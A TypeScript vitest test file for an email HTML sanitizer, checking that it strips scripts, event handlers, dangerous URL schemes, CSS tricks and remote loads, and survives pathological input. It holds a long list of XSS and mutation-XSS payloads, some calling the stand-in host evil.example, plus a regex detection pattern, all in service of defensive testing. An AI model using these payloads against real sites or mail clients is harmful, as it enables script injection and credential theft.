import { describe, expect, test } from 'vitest'
import { sanitizeHtml } from '../../../worker/mail/sanitize'

const closed = { cid: () => null, allowRemote: false }
const clean = (html: string, options: Partial<Parameters<typeof sanitizeHtml>[1]> = {}) =>
  sanitizeHtml(html, { ...closed, ...options }).html

/** What must never be in an answer, whatever went in. */
function expectHarmless(html: string): void {
  expect(html).not.toMatch(
    /<\s*\/?(?:script|style|iframe|object|embed|form|input|button|textarea|select|link|meta|base|svg|math|video|audio|template|frame|body|html)\b/i,
  )
  expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i)
  expect(html).not.toMatch(
    /(?:href|src|background|action|data)\s*=\s*["']?\s*(?:javascript|vbscript|data:(?!image\/(?:png|gif|jpe?g|webp|bmp|avif|x-icon);base64)|file|blob)/i,
  )
  expect(html).not.toMatch(/<[^>]*style="[^"]*(?:url\(|expression|@import|behavior|-moz-binding|\\)/i)
}

describe('sanitizeHtml', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></ScRiPt>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x" onerror\n=\n"alert(1)">',
    '<img src=`javascript:alert(1)`>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://desk.example/1">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
    '<style><!--</style><img src=x onerror=alert(1)>--></style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(https://evil.example/p.gif)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="width:e\\78pression(alert(1))">x</div>',
    '<div style="background:u\\72l(https://evil.example)">x</div>',
    '<div style="background:/**/url(//evil.example)">x</div>',
    '<div style="-moz-binding:url(//evil.example/x.xml#a)">x</div>',
    '<div style="behavior:url(#default#time2)">x</div>',
    '<div style="color:red;@import url(//evil.example)">x</div>',
    '<div style="font-family:\'x\';}</style><script>alert(1)</script>">x</div>',
    '<div style="background:image-set(\'//evil.example/a.png\' 1x)">x</div>',
    '<body onload=alert(1) background="javascript:alert(1)">x</body>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title></title><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<a href="https://ok.example" onclick="alert(1)" ping="https://evil.example" download>x</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
    '<input autofocus onfocus=alert(1)>',
    '<p id="__proto__" name="constructor">x</p>',
    '<img srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x">',
    '"><script>alert(1)</script>',
    '<img alt="`><script>alert(1)</script>" src="cid:a">',
    '\0<scri\0pt>alert(1)</script>',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  ])('leaves nothing that runs or loads in %j', (html) => {
    expectHarmless(clean(html))
    expectHarmless(clean(html, { allowRemote: true, cid: (id) => `/api/parts/${id}` }))
    expectHarmless(clean(clean(html)))
  })

  test('says what it says again when its own answer is cleaned once more', () => {
    const once = clean(
      '<body bgcolor="#fff"><table style="width:100%"><tr><td><img src="https://x.example/a.png"><a href="https://x.example">x</a>',
    )
    expect(clean(once)).toBe(once.replace(/ data-remote-src="[^"]*"/, ''))
  })

  test('opens links elsewhere, without a trace of where they were clicked', () => {
    expect(clean('<a href="https://x.example/?a=1&amp;b=2" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(clean('<a href="mailto:a@b.example">x</a> <a href="tel:+49123">y</a>')).toContain(
      'href="mailto:a@b.example"',
    )
  })

  test('makes no link of what leads into our own application', () => {
    for (const href of ['/api/auth/sign-out', '../x', '#top', '//evil.example', ''])
      expect(clean(`<a href="${href}">x</a>`)).toBe('<a>x</a>')
  })

  test('holds remote images back and counts them', () => {
    const html =
      '<img src="https://x.example/pixel.gif" width="1"><img src="//x.example/b.png"><table background="http://x.example/c.png"><tr><td>x</td></tr></table>'
    const held = sanitizeHtml(html, closed)
    expect(held.blockedRemote).toBe(3)
    expect(held.html).not.toMatch(/\s(?:src|background)=/)
    expect(held.html).toContain('data-remote-src="https://x.example/b.png"')
    const shown = sanitizeHtml(html, { ...closed, allowRemote: true })
    expect(shown.blockedRemote).toBe(0)
    expect(shown.html).toContain('src="https://x.example/b.png"')
    expect(shown.html).toContain('background="http://x.example/c.png"')
  })

  test('shows inline parts through the given addresses and nothing else under our origin', () => {
    const cid = (id: string) => (id === 'logo@x' ? '/api/attachments/att_1' : null)
    expect(clean('<img src="cid:logo@x" alt="Logo">', { cid })).toBe('<img alt="Logo" src="/api/attachments/att_1" />')
    expect(clean('<img src="CID:logo%40x">', { cid })).toBe('<img src="/api/attachments/att_1" />')
    expect(clean('<img src="cid:other" alt="x">', { cid })).toBe('<img alt="x" />')
    expect(clean('<img src="/api/session"><img src="x.png">', { cid })).toBe('<img /><img />')
  })

  test('keeps pictures that the mail carries in itself', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain(
      'src="data:image/png;base64,iVBORw0KGgo="',
    )
  })

  test('layout tables keep their words, their frame and their colours', () => {
    const html =
      clean(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title><style>td{color:red}</style></head>
      <body bgcolor="#eeeeee" style="margin:0; padding:0; font-family:Arial, 'Helvetica Neue', sans-serif">
      <!--[if mso]><table><tr><td>Only Outlook</td></tr></table><![endif]-->
      <center><table width="600" cellpadding="0" cellspacing="0" border="0" align="center" style="border-collapse:collapse;max-width:600px;position:fixed;top:0">
      <tr><td colspan="2" valign="top" bgcolor="#ffffff" style="padding:10px 20px;color:#333333;font:bold 14px/20px Arial;background:#fff url(x.png)">Hello <b>Ada</b></td></tr>
      <tr><td><font face="Arial" size="2" color="#ff0000">Sale</font></td><td style="background-color:rgba(0, 0, 0, .5)">now</td></tr></table></center></body></html>`)
    expect(
      html
        .replace(/<[^>]+>/g, ' ')
        .replace(/\s+/g, ' ')
        .trim(),
    ).toBe('Hello Ada Sale now')
    expect(html).toContain('width="600"')
    expect(html).toContain('bgcolor="#eeeeee"')
    expect(html).toContain("font-family:Arial, 'Helvetica Neue', sans-serif")
    expect(html).toContain('max-width:600px')
    expect(html).toContain('background-color:rgba(0, 0, 0, .5)')
    expect(html).toContain('font:bold 14px/20px Arial')
    expect(html).not.toContain('position')
  })

  test('keeps the words of tags it does not know, such as those of Word', () => {
    expect(clean('<o:p>Hello</o:p> <blink>there</blink>')).toBe('Hello there')
  })

  test('ends in time on hostile input', () => {
    const started = performance.now()
    for (const html of [
      '<div>'.repeat(100_000),
      '<'.repeat(300_000),
      '<a '.repeat(100_000),
      `<p style="${'a:b;'.repeat(100_000)}">`,
      `<p style="color:${'('.repeat(300_000)}">`,
      '<img src="data:image/png;base64,'.concat('A'.repeat(500_000), '!">'),
      '<!--'.repeat(100_000),
      '&#x'.repeat(100_000),
      '<style>'.repeat(50_000),
      '<iframe>'.repeat(50_000),
      '<b>'.repeat(200_000) + '</i>'.repeat(200_000),
      ('<b>'.repeat(900) + '</i>'.repeat(900)).repeat(200),
      '<table><tr><td>'.repeat(50_000),
      '<p><div>'.repeat(50_000),
    ])
      expectHarmless(clean(html))
    expect(performance.now() - started).toBeLessThan(5_000)
  })

  test('shows the words of a mail that is nested beyond reason', () => {
    const { html } = sanitizeHtml(
      `${'<div>'.repeat(5_000)}Hello <b onclick="x">Ada</b> & 1 < 2 <img src=x onerror=alert(1)`,
      closed,
    )
    expectHarmless(html)
    expect(html).toMatch(/^<pre>\s+Hello {2}Ada {2}& 1 &lt; 2 &lt;img src=x onerror=alert\(1\)<\/pre>$/)
  })

  test('a long mail of open paragraphs and rows is not nested', () => {
    expect(clean(`<table>${'<tr><td><p>x<br>'.repeat(5_000)}</table>`)).toMatch(/^<table><tbody>|^<table><tr>/)
  })
})
